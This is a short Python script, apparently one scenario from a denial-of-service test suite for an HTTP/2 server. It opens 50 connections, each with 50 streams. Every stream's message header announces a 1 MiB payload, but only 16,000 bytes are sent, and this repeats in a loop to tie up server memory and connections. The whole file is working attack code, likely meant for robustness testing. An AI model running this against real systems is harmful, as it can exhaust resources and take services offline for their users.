"""50 connections with 50 calls each. Each message announces 1 MiB, but only its first 16,000 bytes
are sent."""

import struct

import http2
from attacker import frame

CONNECTIONS, CALLS = 50, 50


def attack(attacker):
    calls = b"".join(
        frame(http2.HEADERS, http2.END_HEADERS, stream, attacker.head())
        + frame(http2.DATA, 0, stream, b"\x00" + struct.pack(">I", 1 << 20) + bytes(16_000))
        for stream in range(1, 2 * CALLS, 2))
    while not attacker.over():
        connections = attacker.many(CONNECTIONS, lambda: attacker.http2(calls, patience=1))
        attacker.over(1)
        for connection in connections:
            connection.close()
